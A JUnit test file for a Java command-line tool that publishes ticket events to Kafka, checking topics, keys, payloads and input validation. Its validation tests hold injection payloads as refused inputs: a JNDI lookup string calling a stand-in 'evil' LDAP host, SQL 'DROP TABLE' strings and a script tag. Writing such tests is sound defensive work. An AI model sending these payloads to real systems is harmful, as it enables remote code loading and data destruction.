package dev.pimflow.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import dev.pimflow.contracts.EventCodec;
import dev.pimflow.contracts.EventTypes;
import dev.pimflow.contracts.InboundEvent;
import dev.pimflow.contracts.TicketAssigned;
import dev.pimflow.contracts.TicketClosed;
import dev.pimflow.contracts.TicketOpened;
import dev.pimflow.contracts.TicketReopened;
import dev.pimflow.contracts.seed.TutorialTenant;
import java.time.Clock;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import java.util.stream.IntStream;
import org.apache.kafka.common.header.internals.RecordHeaders;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import picocli.CommandLine;

/**
 * {@code ticket open}, {@code ticket assign} and {@code ticket reopen} (DESIGN §9.2) against a stand-in for Kafka: the
 * topic, the key and the event they publish (read back the way the orchestrator reads it), and bad input refused before
 * anything is published, as a usage error naming the option.
 */
class TicketEventsTest {
    static final String ALINE = TutorialTenant.ALINE_ID;
    static final String BOB = "1b2c3d4e-5f60-4a7b-8c9d-0e1f2a3b4c5d";
    static final Instant NOW = Instant.parse("2025-06-02T09:58:00.123456Z");
    static final Instant NOW_MILLIS = Instant.parse("2025-06-02T09:58:00.123Z");

    private final EventCodec codec = new EventCodec();

    /** What the ticket commands hand to Kafka. */
    record Published(KafkaSettings kafka, String topic, String key, byte[] event) {}

    private final List<Published> published = new CopyOnWriteArrayList<>();

    /** pimctl with the stand-in for Kafka and a fixed clock for the commands that stamp a time. */
    private CliRun pimctl(String... args) {
        return CliRun.run(
                cli -> {
                    CommandLine ticket = cli.getSubcommands().get("ticket");
                    ((TicketCommand) ticket.getCommand()).publisher =
                            (kafka, topic, key, event) -> published.add(new Published(kafka, topic, key, event));
                    Clock clock = Clock.fixed(NOW, ZoneOffset.UTC);
                    ((TicketOpenCommand) ticket.getSubcommands().get("open").getCommand()).clock = clock;
                    ((TicketAssignCommand) ticket.getSubcommands().get("assign").getCommand()).clock = clock;
                    ((TicketReopenCommand) ticket.getSubcommands().get("reopen").getCommand()).clock = clock;
                    ((TicketCloseCommand) ticket.getSubcommands().get("close").getCommand()).clock = clock;
                },
                args);
    }

    private Published onlyPublished(CliRun run) {
        assertThat(run.exitCode()).as("exit code; stderr: %s", run.err()).isZero();
        assertThat(run.err()).isEmpty();
        assertThat(published).hasSize(1);
        Published p = published.get(0);
        assertThat(run.out()).as("prints the event id").isEqualTo(read(p).id() + System.lineSeparator());
        return p;
    }

    /** The event as the orchestrator's listener reads it: schema-checked, or an exception. */
    private InboundEvent read(Published p) {
        return codec.read(p.event(), new RecordHeaders(), EventTypes.TICKET_EVENTS);
    }

    private void assertUsageError(CliRun run, String... mentions) {
        assertThat(run.exitCode()).as("exit code; stderr: %s", run.err()).isEqualTo(2);
        assertThat(run.errLines()).hasSize(1);
        assertThat(run.errLines()[0]).startsWith("pimctl: ");
        for (String m : mentions) {
            assertThat(run.errLines()[0]).contains(m);
        }
        assertThat(run.out()).isEmpty();
        assertThat(published).as("nothing is published").isEmpty();
    }

    private static List<String> fieldNames(JsonNode data) {
        List<String> names = new ArrayList<>();
        for (Iterator<String> it = data.fieldNames(); it.hasNext(); ) {
            names.add(it.next());
        }
        return names;
    }

    // ---------------------------------------------------------------- ticket open

    @Test
    void openPublishesTicketOpenedKeyedByTheTicket() {
        CliRun run = pimctl(
                "ticket",
                "open",
                "CONTOSO:Security-012345",
                "--assignee",
                ALINE,
                "--assignee",
                BOB,
                "--title",
                "Refresh tokens leaked",
                "--priority",
                "P1",
                "--event-id",
                "evt-open-1",
                "--bootstrap-servers",
                "kafka.example:9093");

        Published p = onlyPublished(run);
        assertThat(p.topic()).isEqualTo("tickets.events");
        assertThat(p.key()).isEqualTo("Contoso ICM:CONTOSO:Security-012345");
        assertThat(p.kafka().bootstrapServers()).isEqualTo("kafka.example:9093");
        InboundEvent event = read(p);
        assertThat(event.id()).isEqualTo("evt-open-1");
        assertThat(event.type()).isEqualTo(EventTypes.TICKET_OPENED);
        assertThat(event.source()).isEqualTo("urn:pimflow:pimctl");
        assertThat(fieldNames(event.data()))
                .containsExactlyInAnyOrder(
                        "ticketSystem", "ticketNumber", "title", "priority", "assignees", "openedAt");
        assertThat(codec.data(event, TicketOpened.class))
                .isEqualTo(new TicketOpened(
                        "Contoso ICM",
                        "CONTOSO:Security-012345",
                        "Refresh tokens leaked",
                        "P1",
                        List.of(ALINE, BOB),
                        NOW_MILLIS));
    }

    @Test
    void openWithoutTitleOrPriorityLeavesThemOutAndTakesCommaSeparatedAssignees() {
        CliRun run = pimctl(
                "ticket",
                "open",
                "42",
                "--system",
                "ServiceNow",
                "--assignee",
                ALINE + "," + BOB,
                "--topic",
                "tickets.test");

        Published p = onlyPublished(run);
        assertThat(p.topic()).isEqualTo("tickets.test");
        assertThat(p.key()).isEqualTo("ServiceNow:42");
        InboundEvent event = read(p);
        assertThat(event.id()).matches(Inputs.GUID.pattern()); // a fresh UUID
        assertThat(fieldNames(event.data()))
                .containsExactlyInAnyOrder("ticketSystem", "ticketNumber", "assignees", "openedAt");
        assertThat(codec.data(event, TicketOpened.class).assignees()).containsExactly(ALINE, BOB);
    }

    @Test
    void openNeedsAnAssignee() {
        assertUsageError(pimctl("ticket", "open", "INC-1"), "Missing required option", "--assignee");
    }

    @ParameterizedTest(name = "{0} {1}")
    @CsvSource(
            delimiter = '|',
            value = {
                "--assignee | aline@contoso.com                     | '--assignee' | is not a GUID",
                "--assignee | d9771b4c-06c5-491a-92cb-3aa4e225a72   | '--assignee' | is not a GUID",
                "--title    | see ${jndi:ldap://evil/x}             | '--title'    | invalid format",
                "--title    | '   '                                 | '--title'    | must not be empty",
                "--priority | P1; DROP                              | '--priority' | invalid format",
                "--system   | <script>                              | '--system'   | invalid format",
                "--event-id | ''                                    | '--event-id' | must not be empty",
                "--topic    | tickets events                        | '--topic'    | is not a Kafka topic name",
            })
    void openRefusesBadValuesNamingTheOption(String option, String value, String named, String reason) {
        List<String> args = new ArrayList<>(List.of("ticket", "open", "INC-1", "--assignee", BOB));
        args.add(option);
        args.add(value);
        assertUsageError(pimctl(args.toArray(String[]::new)), named, reason);
    }

    @Test
    void openRefusesABadTicketNumberNamingIt() {
        assertUsageError(
                pimctl("ticket", "open", "INC-1'; DROP TABLE ticket; --", "--assignee", BOB),
                "parameter '<number>'",
                "invalid format");
        assertUsageError(pimctl("ticket", "open", " ", "--assignee", BOB), "parameter '<number>'", "must not be empty");
    }

    @Test
    void anAssigneeGivenTwiceInAnyCaseIsRefused() {
        assertUsageError(
                pimctl("ticket", "open", "INC-1", "--assignee", BOB, "--assignee", BOB.toUpperCase()),
                "'--assignee'",
                "'" + BOB.toUpperCase() + "' is given twice");
    }

    @Test
    void moreAssigneesThanTheContractAllowsAreRefused() {
        String many = String.join(
                ",",
                IntStream.range(0, TicketEventOptions.MAX_ASSIGNEES + 1)
                        .mapToObj(i -> String.format("00000000-0000-0000-0000-%012d", i))
                        .toList());
        assertUsageError(
                pimctl("ticket", "open", "INC-1", "--assignee", many), "'--assignee'", "51 assignees, at most 50");
    }

    // ---------------------------------------------------------------- ticket assign

    @Test
    void assignPublishesTheFullCurrentList() {
        CliRun run = pimctl("ticket", "assign", "INC-4711", "--assignee", BOB, "--assignee", ALINE);

        Published p = onlyPublished(run);
        assertThat(p.topic()).isEqualTo("tickets.events");
        assertThat(p.key()).isEqualTo("Contoso ICM:INC-4711");
        InboundEvent event = read(p);
        assertThat(event.type()).isEqualTo(EventTypes.TICKET_ASSIGNED);
        assertThat(fieldNames(event.data()))
                .containsExactlyInAnyOrder("ticketSystem", "ticketNumber", "assignees", "assignedAt");
        assertThat(codec.data(event, TicketAssigned.class))
                .isEqualTo(new TicketAssigned("Contoso ICM", "INC-4711", List.of(BOB, ALINE), NOW_MILLIS));
    }

    @Test
    void assignToNobodyIsAskedForByName() {
        CliRun run = pimctl("ticket", "assign", "INC-4711", "--none", "--ticket-system", "ServiceNow");

        Published p = onlyPublished(run);
        assertThat(p.key()).isEqualTo("ServiceNow:INC-4711");
        TicketAssigned data = codec.data(read(p), TicketAssigned.class);
        assertThat(data.assignees()).isEmpty();
        assertThat(read(p).data().path("assignees").isArray()).isTrue();
    }

    @Test
    void assignWithoutAssigneesOrNoneIsAUsageError() {
        // a forgotten --assignee must not unassign everyone (which ends their activations)
        CliRun forgotten = pimctl("ticket", "assign", "INC-4711");
        assertUsageError(forgotten, "Missing required argument", "--assignee", "--none");
        assertThat(forgotten.errLines()[0]).startsWith("pimctl: Missing required argument");
        assertUsageError(
                pimctl("ticket", "assign", "INC-4711", "--none", "--assignee", BOB),
                "mutually exclusive",
                "--assignee",
                "--none");
    }

    @Test
    void assignRefusesAnAssigneeThatIsNotAnObjectId() {
        assertUsageError(
                pimctl("ticket", "assign", "INC-4711", "--assignee", BOB, "--assignee", "bob"),
                "option '--assignee': 'bob' is not a GUID");
    }

    @Test
    void theContractNamesTheAssigneeOptionForABadListItem() {
        // what Inputs.guid lets through and the schema refuses is still reported as --assignee, not data.assignees[1]
        byte[] event = TicketEventOptions.event(
                "evt-1",
                EventTypes.TICKET_ASSIGNED,
                new TicketAssigned("Contoso ICM", "INC-1", List.of(BOB, "bob"), NOW_MILLIS));
        CommandLine cmd = Pimctl.commandLine();

        assertThatThrownBy(() -> Inputs.contract(
                        cmd, event, Map.of("data.assignees", "--assignee"), Map.of("--assignee", BOB + ",bob")))
                .isInstanceOf(CommandLine.ParameterException.class)
                .hasMessage("Invalid value for option '--assignee': '" + BOB + ",bob' has an invalid format");
    }

    // ---------------------------------------------------------------- ticket reopen, close

    @Test
    void reopenPublishesTicketReopened() {
        CliRun run = pimctl("ticket", "reopen", "INC-4711", "--system", "PagerDuty", "--event-id", "evt-re-1");

        Published p = onlyPublished(run);
        assertThat(p.key()).isEqualTo("PagerDuty:INC-4711");
        InboundEvent event = read(p);
        assertThat(event.type()).isEqualTo(EventTypes.TICKET_REOPENED);
        assertThat(event.id()).isEqualTo("evt-re-1");
        assertThat(fieldNames(event.data())).containsExactlyInAnyOrder("ticketSystem", "ticketNumber", "reopenedAt");
        assertThat(codec.data(event, TicketReopened.class))
                .isEqualTo(new TicketReopened("PagerDuty", "INC-4711", NOW_MILLIS));
    }

    @Test
    void reopenRefusesBadInput() {
        assertUsageError(pimctl("ticket", "reopen"), "Missing required parameter", "<number>");
        assertUsageError(pimctl("ticket", "reopen", "INC-1", "--system", ""), "'--system'", "must not be empty");
    }

    @Test
    void closeGoesThroughTheSamePublisher() {
        CliRun run = pimctl("ticket", "close", "--ticket", "INC-4711", "--resolution", "done");

        Published p = onlyPublished(run);
        assertThat(p.key()).isEqualTo("Contoso ICM:INC-4711");
        assertThat(codec.data(read(p), TicketClosed.class))
                .isEqualTo(new TicketClosed("Contoso ICM", "INC-4711", NOW_MILLIS, "done"));
    }

    @Test
    void aBadBootstrapAddressIsRefusedBeforePublishing() {
        assertUsageError(
                pimctl("ticket", "reopen", "INC-1", "--bootstrap-servers", "localhost"),
                "'--bootstrap-servers'",
                "is not host:port");
    }
}
